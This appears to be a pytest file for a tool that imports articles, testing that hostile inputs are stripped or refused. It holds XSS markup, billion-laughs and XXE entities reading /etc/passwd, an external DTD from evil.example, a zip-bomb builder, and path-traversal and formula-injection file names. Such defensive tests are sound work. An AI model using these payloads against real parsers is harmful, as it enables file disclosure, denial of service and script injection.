"""Hostile files that an editor adds: what they say comes in as text, what they do is refused."""

from __future__ import annotations

import html
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from hostile.payloads import LABELS, PAYLOADS
from word_files import W, paragraph, word_file

from builder.cli import main
from builder.read import read_article
from builder.tables.deceptive import plain

BODY = "港口去年完成吞吐量一百二十万标准箱，比上年增长两成，各项工程均已完成并投入使用。"


def add(project: Path, name: str, data: bytes, *options: str) -> tuple[int, str]:
    (project / "seeds/articles").mkdir(parents=True, exist_ok=True)
    (project / name).write_bytes(data)
    result = CliRunner().invoke(main, ["add", "--root", str(project), *options, str(project / name)])
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


FORMATS: dict[str, Callable[[str], bytes]] = {
    "page.html": lambda words: (
        f"<title>{html.escape(words)}</title><article><h1>{html.escape(words)}</h1><p>{BODY}</p>"
        f"<p>{BODY}{html.escape(words)}</p></article>"
    ).encode(),
    "report.docx": lambda words: word_file(
        paragraph(html.escape(words), "a3"), paragraph(BODY), paragraph(BODY + html.escape(words))
    ),
    "text.txt": lambda words: f"{words}\n\n{BODY}\n\n{BODY}{words}\n".encode(),
}


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("label", LABELS)
def test_words_of_a_file_come_in_as_text(label: str, name: str, tmp_path: Path) -> None:
    words = " ".join(PAYLOADS[label].split())
    code, output = add(tmp_path, name, FORMATS[name](words))
    assert code == 0, output
    folder = next((tmp_path / "seeds/articles").iterdir())
    source = read_article(folder, folder.name)
    assert plain(f"{BODY}{words}") in plain(source.text)
    if source.metadata.title:  # trafilatura decodes what a page calls itself twice
        assert html.unescape(source.metadata.title.zh).lstrip("#") == html.unescape(plain(words)).lstrip("#")


MARKED_UP = f"""<title>港口</title><article><h1>港口</h1><p onclick="ran()">{BODY}<script>ran()</script>
<a href="javascript:ran()">甲</a><img src=x onerror=ran()><iframe srcdoc="<script>ran()</script>"></iframe></p>
<style>ran</style><object data="ran"></object><svg onload=ran()><script>ran()</script></svg><p>{BODY}</p></article>"""


@pytest.mark.parametrize(("name", "data"), [("page.html", MARKED_UP), ("text.md", f"# 港口\n\n{BODY}\n\n{MARKED_UP}")])
def test_of_markup_nothing_comes_in_but_its_words(name: str, data: str, tmp_path: Path) -> None:
    assert add(tmp_path, name, data.encode())[0] == 0
    folder = next((tmp_path / "seeds/articles").iterdir())
    text = (folder / "source.txt").read_text("utf-8")
    assert BODY in text
    assert not [mark for mark in ("ran", "<", "javascript") if mark in text]


MEGABYTE = 1_000_000


def bomb(document: str) -> bytes:
    return word_file(document=document)


def archive(size: int) -> bytes:
    """A Word file of a few kilobytes whose text would be `size` bytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file, file.open("word/document.xml", "w") as text:
        text.write(f"<w:document {W}>".encode())
        for _ in range(size // MEGABYTE):
            text.write(b" " * MEGABYTE)
    return target.getvalue()


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
HEAD = f"<w:document {W}><w:body><w:p><w:r><w:t>"
TAIL = "</w:t></w:r></w:p></w:body></w:document>"
REFUSED = {
    "entities of entities": ("a.docx", bomb(f'<!DOCTYPE d [<!ENTITY a0 "ha">{LAUGHS}]>{HEAD}&a9;{TAIL}')),
    "a file as an entity": ("a.docx", bomb(f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>{HEAD}&x;{TAIL}')),
    "an address as a DTD": ("a.docx", bomb(f'<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">{HEAD}{BODY}{TAIL}')),
    "a zip bomb": ("a.docx", b""),
    "a zip of nothing": ("a.docx", b"PK\5\6" + b"\0" * 18),
    "a page of entities": ("a.html", b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;'),
    "NUL bytes": ("a.txt", b"\0" * 400),
}  # fmt: skip


@pytest.mark.parametrize("why", REFUSED)
def test_what_a_file_does_is_refused_with_a_reason(why: str, tmp_path: Path) -> None:
    name, data = REFUSED[why]
    code, output = add(tmp_path, name, data or archive(200 * MEGABYTE))
    folders = list((tmp_path / "seeds/articles").iterdir())
    if code == 0:
        assert "root:" not in (folders[0] / "source.txt").read_text("utf-8")
    else:
        assert (code, folders) == (1, [])
        assert "error" in output


@pytest.mark.parametrize("identity", ["../x", "..", "/etc/x", "a/b", "a\\b", "x\0y", "X", "a b", "con\n", "", "é"])
def test_an_id_that_leads_elsewhere_is_refused(identity: str, tmp_path: Path) -> None:
    before = sorted(tmp_path.rglob("*"))
    code, _ = add(tmp_path, "text.txt", BODY.encode(), "--id", identity)
    added = [path for path in tmp_path.rglob("*") if path not in before and "articles/" in path.as_posix()]
    if identity:
        assert (code != 0, added) == (True, [])
    else:
        assert all(path.relative_to(tmp_path / "seeds/articles").parts[0].startswith("001") for path in added)


@pytest.mark.parametrize("name", ["../../etc/x.txt", "=cmd.txt", "<script>.txt", "{{x}}.txt", "甲\u202e乙.txt"])
def test_a_file_name_becomes_an_id_of_plain_letters(name: str, tmp_path: Path) -> None:
    assert add(tmp_path, Path(name).name, BODY.encode())[0] == 0
    folder = next((tmp_path / "seeds/articles").iterdir())
    assert folder.name.isascii()
    assert folder.name.replace("-", "").isalnum()
